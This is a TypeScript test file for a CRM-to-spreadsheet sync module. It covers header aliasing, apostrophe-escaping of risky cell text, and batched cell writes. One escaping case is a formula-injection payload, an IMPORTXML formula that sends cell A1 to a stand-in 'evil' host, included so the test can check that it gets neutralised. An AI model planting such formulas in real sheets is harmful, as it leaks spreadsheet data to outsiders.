import { needsApostrophe, toTypedInput } from '../../src/sheet/cell-text';
import { mapHeaders } from '../../src/sheet/headers';
import { SheetTable } from '../../src/sheet/table';
import { MemorySheet } from '../support/memory-sheet';

describe('headers', () => {
  it('finds columns by trimmed, case-insensitive names and Russian aliases', () => {
    const map = mapHeaders([' Имя ', 'Notes', 'PHONE', 'Бюджет', 'amo_deal_id', 'Статус']);
    expect(map).toEqual({ name: 0, phone: 2, budget: 3, amo_deal_id: 4, status: 5 });
  });
});

describe('cell text', () => {
  it.each([
    ['=IMPORTXML("http://evil/?"&A1, "//a")', true],
    ['+79123456789', true],
    ['00123', true],
    ['@x', true],
    ['TRUE', true],
    ['Иван Петров', false],
    ['ivan@example.com', false],
    ['', false],
  ])('%s needs an apostrophe: %s', (text, expected) => {
    expect(needsApostrophe(text)).toBe(expected);
    expect(toTypedInput(text)).toBe(expected ? `'${text}` : text);
  });

  it('leaves numbers and booleans as they are', () => {
    expect(toTypedInput(1500)).toBe(1500);
    expect(toTypedInput(false)).toBe(false);
  });
});

describe('SheetTable.commit', () => {
  const header = ['name', 'notes', 'amo_deal_id', 'status', 'sync_status', 'comment'];

  it('writes one block over the changed rows, never a column with another header', () => {
    const sheet = new MemorySheet([
      header,
      ['Ann', 'n1', '', '', '', 'c1'],
      ['Bob', 'n2', '7', 'Old', 'x', 'c2'],
      ['Cid', 'n3', '', '', '', 'c3'],
    ]);
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'amo_deal_id', '11');
    table.set(table.rows[2], 'sync_status', 'synced');
    expect(table.commit()).toBe(1);
    expect(sheet.writes).toEqual([
      {
        row: 2,
        column: 3,
        values: [
          ['11', '', ''],
          ['7', 'Old', 'x'],
          ['', '', 'synced'],
        ],
      },
    ]);
    expect(sheet.cells.map(r => r[1])).toEqual(['notes', 'n1', 'n2', 'n3']);
    expect(sheet.cells.map(r => r[5])).toEqual(['comment', 'c1', 'c2', 'c3']);
  });

  it('splits the write where a foreign column separates synced ones', () => {
    const sheet = new MemorySheet([header, ['Ann', 'n1', '', '', '', 'c1']]);
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'name', 'Anna');
    table.set(table.rows[0], 'status', 'Won');
    expect(table.commit()).toBe(2);
    expect(sheet.writes.map(w => w.column)).toEqual([1, 4]);
    expect(sheet.cells[1]).toEqual(['Anna', 'n1', '', 'Won', '', 'c1']);
  });

  it('writes nothing when nothing changed', () => {
    const sheet = new MemorySheet([header, ['Ann', 'n1', '5', 'New', 's', 'c1']]);
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'status', 'New');
    expect(table.commit()).toBe(0);
    expect(sheet.writes).toHaveLength(0);
  });
});

describe('plain-text cells', () => {
  it('get the exact string, since an apostrophe would stay in the text', () => {
    expect(toTypedInput('+79123456789', '@')).toBe('+79123456789');
    expect(toTypedInput('+79123456789', '0.00')).toBe("'+79123456789");
  });
});
